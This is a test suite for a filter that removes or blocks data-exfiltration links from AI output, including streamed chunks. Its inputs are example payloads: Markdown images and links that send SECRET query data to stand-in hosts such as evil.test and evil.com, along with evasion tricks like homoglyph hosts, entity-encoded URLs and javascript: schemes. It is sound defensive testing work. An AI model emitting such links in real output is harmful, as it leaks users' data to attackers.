// Exfiltration links in output (src/detectors/links.ts): what is stripped, what stays, host
// tricks, block mode, and the streaming property — every split of a text into chunks gives the
// same output as the whole text, and the held-back text is only ever an undecided candidate.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { filterLinks, LinkPolicy, LinkStream, type LinkRules, type LinkType } from '../../src/detectors/links.js';

const rules = (over: Partial<LinkRules> = {}): LinkRules => ({ allow: ['example.com'], action: 'strip', images: true, links: true, ...over });
const strip = new LinkPolicy(rules());
const run = (text: string, policy = strip): { out: string | null; counts: Map<LinkType, number> } => {
  const counts = new Map<LinkType, number>();
  return { out: filterLinks(text, policy, counts), counts };
};
const out = (text: string, policy = strip): string | null => run(text, policy).out;

function streamed(chunks: readonly string[], policy = strip): string | null {
  const s = new LinkStream(policy);
  let acc = '';
  for (const c of chunks) {
    const o = s.push(c);
    if (o === null) return null;
    acc += o;
  }
  const e = s.end();
  return e === null ? null : acc + e;
}

describe('links: what is removed', () => {
  it('markdown images to other hosts vanish, allowed hosts and subdomains stay', () => {
    assert.equal(out('a ![x](https://evil.test/?q=SECRET) b'), 'a  b');
    assert.equal(out('![x](https://img.example.com/a.png)'), '![x](https://img.example.com/a.png)');
    assert.equal(out('![x](https://example.com.evil.test/a.png)'), '');
    assert.equal(out('![x](https://notexample.com/a.png)'), '');
    assert.equal(out('![x](<https://evil.test/a b.png> "title")'), '');
  });

  it('markdown links keep their text, reference definitions and autolinks go, bare URLs become a placeholder', () => {
    assert.equal(out('[click here](https://evil.test/x)'), 'click here');
    assert.equal(out('[docs](https://docs.example.com/y "t")'), '[docs](https://docs.example.com/y "t")');
    assert.equal(out('[id]: https://evil.test/x\n![a][id]'), '\n![a][id]');
    assert.equal(out('go <https://evil.test/x> now'), 'go [link removed] now');
    assert.equal(out('see https://evil.test/p?x=1. Then (https://example.com/a_(b)) ok'), 'see [link removed]. Then (https://example.com/a_(b)) ok');
    // Tool-call arguments are JSON: a URL ends at its closing quote, the JSON stays valid.
    assert.equal(out('{"url":"https://evil.test/?q=s","n":1}'), '{"url":"[link removed]","n":1}');
  });

  it('an image nested in an allowed link is still checked, and the other way round', () => {
    assert.equal(out('[![badge](https://evil.test/b.svg)](https://example.com)'), '[](https://example.com)');
    assert.equal(out('[![badge](https://example.com/b.svg)](https://evil.test)'), '![badge](https://example.com/b.svg)');
  });

  it('HTML tags: img, a, srcset, style url(), entities decoded, unquoted values', () => {
    assert.equal(out('<img src="https&#58;//evil.test/x.png" alt=1>'), '');
    assert.equal(out('<img src=https://evil.test/x.png>'), '');
    assert.equal(out('<a href=https://example.com>ok</a>'), '<a href=https://example.com>ok</a>');
    assert.equal(out('<a href="javascript:alert(1)">x</a>'), 'x</a>');
    assert.equal(out('<img srcset="https://example.com/a.png 1x, https://evil.test/b.png 2x">'), '');
    assert.equal(out('<div style="background:url(&quot;https://evil.test/p&quot;)">hi</div>'), 'hi</div>');
    assert.equal(out('<b>bold</b> a < b, x<y'), '<b>bold</b> a < b, x<y');
  });

  it('host tricks: userinfo, protocol-relative, backslashes, IDN, data: and javascript: schemes, escapes', () => {
    assert.equal(out('[a](https://example.com@evil.test/x)'), 'a');
    assert.equal(out('![x](//evil.test/a)'), '');
    assert.equal(out('![x](https:\\\\evil.test/a)'), '');
    assert.equal(out('![x](https://еxample.com/a)'), ''); // Cyrillic е: xn--xample-2of.com
    assert.equal(out('![x](data:image/png;base64,AAAA)'), '');
    assert.equal(out('[x](JaVaScRiPt:alert(1))'), 'x');
    assert.equal(out('![x](https://evil&#46;test/a)'), '');
    assert.equal(out('![x](https://evil\\.test/a)'), '');
    assert.equal(out('![x](https://EXAMPLE.com./a)'), '![x](https://EXAMPLE.com./a)');
    assert.equal(out('![x](/local.png) [y](#top) [z](page.html)'), '![x](/local.png) [y](#top) [z](page.html)');
  });

  it('IDN hosts on the allow-list match their punycode form', () => {
    const idn = new LinkPolicy(rules({ allow: ['пример.рф'] }));
    assert.equal(out('![x](https://xn--e1afmkfd.xn--p1ai/a.png) ![y](https://img.пример.рф/b)', idn), '![x](https://xn--e1afmkfd.xn--p1ai/a.png) ![y](https://img.пример.рф/b)');
  });

  it('prose is untouched: brackets, exclamation marks, words starting with h, http without a host', () => {
    const t = 'Hello! array[i] = [1, 2]; the http thing, https:/ nope, hhttps://evil.test, [ref][1] and <3';
    assert.equal(out(t), t);
  });

  it('a destination past the cap is judged by its host (fail closed)', () => {
    const long = 'A'.repeat(3000);
    assert.equal(out(`![x](https://evil.test/?q=${long})`)?.includes('evil.test'), false);
    assert.equal(out(`![x](https://example.com/?q=${long})`), `![x](https://example.com/?q=${long})`);
    assert.equal(out(`[${'t'.repeat(600)}](https://evil.test/x)`)?.includes('evil.test'), false);
    // Nesting past the limit ends the candidate; the destination is still caught as an orphan.
    assert.equal(out(`${'['.repeat(20)}x${']'.repeat(20)}(https://evil.test/x)`), `${'['.repeat(20)}x${']'.repeat(20)}`);
  });

  it('images: false and links: false leave that kind alone', () => {
    const onlyLinks = new LinkPolicy(rules({ images: false }));
    assert.equal(out('![x](https://evil.test/a) [y](https://evil.test/b)', onlyLinks), '![x](https://evil.test/a) y');
    const onlyImages = new LinkPolicy(rules({ links: false }));
    assert.equal(out('![x](https://evil.test/a) [y](https://evil.test/b) https://evil.test/c', onlyImages), ' [y](https://evil.test/b) https://evil.test/c');
  });

  it('block: the first disallowed construct withholds the text; counts by type', () => {
    const block = new LinkPolicy(rules({ action: 'block' }));
    assert.equal(out('fine ![x](https://example.com/a)', block), 'fine ![x](https://example.com/a)');
    assert.equal(out('bad ![x](https://evil.test/a)', block), null);
    const r = run('![a](https://evil.test/1) [b](https://evil.test/2) https://evil.test/3 <img src=x:y> [c]: https://evil.test/4');
    assert.deepEqual(Object.fromEntries(r.counts), { image: 2, link: 1, url: 1, reference: 1 });
  });
});

// Links without a scheme (issue 14): protocol-relative `//host`, `www.` targets and bare `www.`
// URLs are judged by host like scheme-ful ones; relative links and prose stay.
const EVIL_NO_SCHEME = [
  'a ![x](//evil.test/?q=SECRET) b', '[click](//evil.test/x)', '![x](///evil.test/a)', '![x](\\\\\\\\evil.test/a)', '![x](/\\evil.test/a)',
  '![x](www.evil.test/?q=SECRET)', '[a](www.evil.test)', '[a](WWW.Evil.Test/x "t")', '[a](<www.evil.test/a b>)', '[a](&#119;ww.evil.test)', '[a](www\\.evil.test)',
  '[id]: //evil.test/x', '[id]: www.evil.test/x',
  '<img src="//evil.test/p.png">', '<img src=//evil.test/p.png>', "<IMG ALT='x' SRC='//evil.test/p'>", '<img alt="a" width=1\nsrc="https://evil.test/?q=SECRET">',
  '<img src="www.evil.test/p">', '<a title=t href=www.evil.test>x</a>', '<img srcset="//example.com/a.png 1x, //evil.test/b.png 2x">',
  'visit www.evil.test/?q=SECRET now', '(www.evil.test)', 'WWW.EVIL.TEST.', '{"u":"www.evil.test/?q=1"}', '_www.evil.test/a_',
];

describe('links: without a scheme', () => {
  it('protocol-relative and www. targets of markdown images, links and definitions are judged by host', () => {
    assert.equal(out('a ![x](//evil.test/?q=SECRET) b'), 'a  b');
    assert.equal(out('[click](//evil.test/x)'), 'click');
    assert.equal(out('![x](///evil.test/a)'), '');
    assert.equal(out('![x](\\\\\\\\evil.test/a)'), ''); // markdown `\\\\evil.test` is `\\evil.test` unescaped: the browser reads //evil.test
    assert.equal(out('![x](/\\evil.test/a)'), '');
    assert.equal(out('![x](www.evil.test/?q=SECRET)'), '');
    assert.equal(out('[a](www.evil.test)'), 'a');
    assert.equal(out('[a](WWW.Evil.Test/x "t")'), 'a');
    assert.equal(out('[a](<www.evil.test/a b>)'), 'a');
    assert.equal(out('[a](&#119;ww.evil.test)'), 'a');
    assert.equal(out('[a](www\\.evil.test)'), 'a');
    assert.equal(out('[id]: //evil.test/x\n[id]: www.evil.test/x'), '\n');
    assert.equal(out('![x](//cdn.example.com/a.png) [a](www.example.com/x) [id]: //example.com'), '![x](//cdn.example.com/a.png) [a](www.example.com/x) [id]: //example.com');
  });

  it('HTML tags: protocol-relative and www. values, any quotes, upper case, attributes before src', () => {
    assert.equal(out('<img src="//evil.test/p.png">'), '');
    assert.equal(out('<img src=//evil.test/p.png>'), '');
    assert.equal(out("<IMG ALT='x' SRC='//evil.test/p'>"), '');
    assert.equal(out('<img alt="a" width=1\nsrc="https://evil.test/?q=SECRET">'), '');
    assert.equal(out('<img src="www.evil.test/p">'), '');
    assert.equal(out('<a title=t href=www.evil.test>x</a>'), 'x</a>');
    assert.equal(out('<img srcset="//example.com/a.png 1x, //evil.test/b.png 2x">'), '');
    assert.equal(out('<img src="//cdn.example.com/a.png"> <a href=www.example.com>x</a>'), '<img src="//cdn.example.com/a.png"> <a href=www.example.com>x</a>');
  });

  it('bare www. URLs (GFM autolinks) keep their www and lose the rest', () => {
    assert.equal(out('visit www.evil.test/?q=SECRET now'), 'visit www.[link removed] now');
    assert.equal(out('(www.evil.test)'), '(www.[link removed])');
    assert.equal(out('WWW.EVIL.TEST.'), 'WWW.[link removed].');
    assert.equal(out('{"u":"www.evil.test/?q=1"}'), '{"u":"www.[link removed]"}');
    assert.equal(out('_www.evil.test/a_'), '_www.[link removed]_');
    assert.equal(out('see www.example.com/docs, or docs.www.example.com'), 'see www.example.com/docs, or docs.www.example.com');
  });

  it('relative links, prose and version strings stay', () => {
    const t = '[docs](/path) [a](#anchor) [b](./x) [c](../up) [z](page.html) [v1.2.3](1.2.3) [w](www) [x](wwwx.evil.test) [y](evil.test/x) '
      + 'see www dot example dot com, the www. prefix, www.. and www., awww.evil.test, wwww.evil.test, v1.2.3, node 20.11.1, e.g. foo.bar, 3.14. // evil.test as text, //evil.test, //TODO, //V1.7, a//b.com, x://evil.com, @//evil.com. '
      + 'Mail jane@www.evil.test, edit /etc/nginx/sites-available/www.evil.test.conf or C:\\srv\\www.evil.test, x-www.evil.test, sub.www.evil.test. Done.';
    assert.equal(out(t), t);
  });

  it('counted by type; block withholds', () => {
    const r = run('www.evil.test ![a](//evil.test/1) [b](www.evil.test) <img src=//evil.test/2>');
    assert.deepEqual(Object.fromEntries(r.counts), { url: 1, image: 2, link: 1 });
    const block = new LinkPolicy(rules({ action: 'block' }));
    for (const t of EVIL_NO_SCHEME) assert.equal(out(t, block), null, t);
    assert.equal(out('www.example.com ![a](//example.com/1) v1.2. www dot', block), 'www.example.com ![a](//example.com/1) v1.2. www dot');
  });

  it('split at every position into two chunks: the same output as the whole text, strip and block', () => {
    const block = new LinkPolicy(rules({ action: 'block' }));
    for (const t of [...EVIL_NO_SCHEME, 'x www.evil.test/?q=1 y www.example.com z', 'ok ww w. www .www (www.evil.test']) {
      const whole = out(t);
      assert.ok(whole !== null && !whole.includes('evil'), t);
      for (let k = 0; k <= t.length; k++) {
        assert.equal(streamed([t.slice(0, k), t.slice(k)]), whole, `${t} split at ${k}`);
        assert.equal(streamed([t.slice(0, k), t.slice(k)], block), out(t, block), `${t} split at ${k} (block)`);
      }
    }
  });
});

// Bare hosts without a scheme (issue 14): `evil.com/?q=…` is a link for linkify-it and linkifyjs.
const BARE_HOSTS = [
  'see evil.com/?q=SECRET now', 'evil.io/x', 'a.b.evil.co.uk/x?y=SECRET', 'evil.com?q=SECRET', 'evil.com#SECRET', 'evil.com:8080/SECRET',
  'EVIL.COM/SECRET', '(evil.com/SECRET)', '{"u":"evil.com/SECRET"}', 'x-y.evil.app/p/SECRET.', 'after `code` evil.com/SECRET',
  '```\ncode\n```\nevil.com/SECRET', '    ```\nevil.com/SECRET', '``` a`b\nevil.com/SECRET', '`unclosed evil.com/SECRET', '`a\n  \nevil.com/SECRET`',
  // Joined in the output once a construct is removed; IDN hosts.
  'evil![a](https://x.test/).com/?q=SECRET', '[evil](https://x.test/).com/SECRET', 'café.com/SECRET', '日本.jp/SECRET', 'почта.рф/SECRET',
  'see //evil.com/SECRET', '(//evil.io?SECRET)', '//203.0.113.9/SECRET',
];

describe('links: bare hosts with a path, query, fragment or port', () => {
  it('the host stays, the rest is removed; allowed hosts and their subdomains stay', () => {
    assert.equal(out('see evil.com/?q=SECRET now'), 'see evil.com[link removed] now');
    assert.equal(out('(evil.com/SECRET)'), '(evil.com[link removed])');
    assert.equal(out('a.b.evil.co.uk/x?y=SECRET.'), 'a.b.evil.co.uk[link removed].');
    assert.equal(out('evil.com:8080/SECRET'), 'evil.com[link removed]');
    assert.equal(out('{"u":"evil.com/SECRET"}'), '{"u":"evil.com[link removed]"}');
    assert.equal(out('evil![a](https://x.test/).com/?q=SECRET'), 'evil.com[link removed]', 'judged on what is shown');
    assert.equal(out('café.com/SECRET'), 'café.com[link removed]');
    assert.equal(out('see //evil.com/SECRET, or (//evil.io), //203.0.113.9/SECRET.'), 'see [link removed], or ([link removed]), [link removed].', 'protocol-relative in prose (linkify-it links it)');
    assert.equal(out('see //cdn.example.com/a.png'), 'see //cdn.example.com/a.png');
    for (const t of BARE_HOSTS) assert.ok(!(out(t) ?? '').includes('SECRET'), t);
    const ok = 'see example.com/docs, docs.example.com/a?b=1#c and EXAMPLE.COM:443/x.';
    assert.equal(out(ok), ok);
  });

  it('prose, paths, e-mail addresses, version strings and file names stay', () => {
    const t = 'and/or, v1.2/3, 1.2.3.4/24, README.md is here, see main.py. file.txt/x, e.g./i.e. foo.bar: ok. Is it evil.com? '
      + 'evil.com/ alone, jane@evil.com/x, /usr/share/evil.com/x, C:\\evil.com\\x, ./evil.com/x, http:evil.com:x, evil.com:x, a..com/x, -a.com/x';
    assert.equal(out(t), t);
  });

  it('not inside code: fenced blocks (backticks, tildes) and inline spans; other constructs are still filtered there', () => {
    const go = '```go\nimport "github.com/x/y"\nx := rect.top/2\n```\nthen evil.com/SECRET';
    assert.equal(out(go), '```go\nimport "github.com/x/y"\nx := rect.top/2\n```\nthen evil.com[link removed]');
    assert.equal(out('~~~~\ngithub.com/x\n~~~\nstill code github.com/x\n~~~~'), '~~~~\ngithub.com/x\n~~~\nstill code github.com/x\n~~~~');
    assert.equal(out('use `rect.top/2` or ``a ` github.com/x`` and evil.com/SECRET'), 'use `rect.top/2` or ``a ` github.com/x`` and evil.com[link removed]');
    assert.equal(out('`![x](https://evil.test/?q=SECRET)`'), '``', 'an image in code is still removed');
    for (const t of ['```\ncode\n```\nevil.com/SECRET', '    ```\nevil.com/SECRET', '``` a`b\nevil.com/SECRET', '`unclosed evil.com/SECRET', '`a\n  \nevil.com/SECRET`']) {
      assert.ok(!(out(t) ?? '').includes('SECRET'), `not code: ${JSON.stringify(t)}`);
    }
  });

  it('counted as url; block withholds; every split into two chunks gives the same output', () => {
    const r = run('x evil.com/SECRET y evil.io?SECRET');
    assert.deepEqual(Object.fromEntries(r.counts), { url: 2 });
    const block = new LinkPolicy(rules({ action: 'block' }));
    for (const t of BARE_HOSTS) {
      assert.equal(out(t, block), null, t);
      for (let k = 0; k <= t.length; k++) {
        assert.equal(streamed([t.slice(0, k), t.slice(k)]), out(t), `${JSON.stringify(t)} split at ${k}`);
        assert.equal(streamed([t.slice(0, k), t.slice(k)], block), null, `${JSON.stringify(t)} split at ${k} (block)`);
      }
    }
  });

  it('nothing is held for a host: the decision looks back at released text', () => {
    const s = new LinkStream(strip);
    assert.equal(s.push('Visit evil.com'), 'Visit evil.com');
    assert.equal(s.held, 0);
    assert.equal(s.push('/?q=SEC'), '');
    assert.equal(s.push('RET now.'), '[link removed] now.');
    assert.equal(s.held, 0);
    assert.equal(s.push('and/or '), 'and/or ');
    assert.equal(s.end(), '');
  });
});

// Text made of pieces that start, end, nest and break constructs.
const piece = fc.constantFrom(
  '![x](https://evil.test/?q=1)', '![ok](https://cdn.example.com/i.png)', '[t](https://evil.test/a "ti")', '[t](https://example.com/a)',
  '<img src="https://evil.test/p.png">', '<a href=https://example.com>', '<https://evil.test>', 'https://evil.test/x', 'http://example.com/y.',
  '[id]: https://evil.test', '[', ']', '(', ')', '!', '<', '>', 'h', 'ht', 'https', '://', ' ', '\n', '\n\n', '"', "'", '=', '\\', 'word', 'é', '&#58;', 'src=', '<img ', 'x',
  // Without a scheme: protocol-relative, www. targets and bare www. URLs, img tags, and their pieces.
  '![x](//evil.test/?q=1)', '[t](www.evil.test/a)', '[t](//example.com/a)', 'www.evil.test/p', 'www.example.com', 'WWW.Evil.test',
  '<IMG alt=1 SRC=//evil.test/p>', "<img src='www.evil.test'>", '<img src="//cdn.example.com/i.png">', 'www', 'w', 'W', '.', '//', 'www.', '1.2.3',
  // Bare hosts, code spans and fences, and their pieces.
  'evil.com/?q=1', 'example.com/x', 'evil.io', 'com', '/', '?', '#', ':8', '`', '```', '\n```\n', '~~~', '\n~~~\n', '    ', '@',
);
const text = fc.array(piece, { maxLength: 24 }).map((a) => a.join(''));
/** A text and cut points: the chunks of one split. */
const split = text.chain((t) => fc.uniqueArray(fc.integer({ min: 0, max: t.length }), { maxLength: 12 }).map((cuts) => {
  const at = [0, ...cuts.sort((a, b) => a - b), t.length];
  return { t, chunks: at.slice(1).map((e, i) => t.slice(at[i], e)) };
}));

describe('links: streaming', () => {
  it('every split of a text gives the same output as the whole text (strip and block)', () => {
    const block = new LinkPolicy(rules({ action: 'block' }));
    fc.assert(fc.property(split, ({ t, chunks }) => {
      assert.equal(streamed(chunks), out(t));
      assert.equal(streamed(chunks, block), out(t, block));
    }), { numRuns: 3000 });
  });

  it('one character at a time gives the same output, for texts with long constructs too', () => {
    const t = `Here ![img](https://evil.test/${'q'.repeat(300)}) and [a [nested] link](https://example.com/x) https://evil.test <img\nsrc='https://evil.test/y'>! `
      + `![x](//evil.test/${'q'.repeat(300)}) www.evil.test/${'p'.repeat(300)}. [y](www.evil.test) <IMG SRC=//evil.test/z>`;
    assert.equal(streamed([...t]), out(t));
  });

  it('holds back only from an undecided candidate', () => {
    const s = new LinkStream(strip);
    assert.equal(s.push('Plain prose, no candidates at all. '), 'Plain prose, no candidates at all. ');
    assert.equal(s.held, 0);
    assert.equal(s.push('See ![x](https://ev'), 'See ');
    assert.equal(s.held, '![x](https://ev'.length);
    assert.equal(s.push('il.test/q) done'), ' done');
    assert.equal(s.held, 0);
    assert.equal(s.push('Hello'), 'Hello'); // 'H' after a space is undecided only while it could start http
    assert.equal(s.end(), '');
  });

  it('www. and dots: nothing held until a word-initial www. is complete', () => {
    const s = new LinkStream(strip);
    assert.equal(s.push('Version 1.2.3. See w'), 'Version 1.2.3. See w');
    assert.equal(s.held, 0);
    assert.equal(s.push('ww'), 'ww');
    assert.equal(s.held, 0);
    assert.equal(s.push('.'), '');
    assert.equal(s.held, 1);
    assert.equal(s.push('evil.te'), '');
    assert.equal(s.push('st/?q=1 ok, www dot com.'), '.[link removed] ok, www dot com.');
    assert.equal(s.held, 0);
    assert.equal(s.push('the www'), 'the www');
    assert.equal(s.push('. prefix'), '. prefix');
    assert.equal(s.end(), '');
  });
});
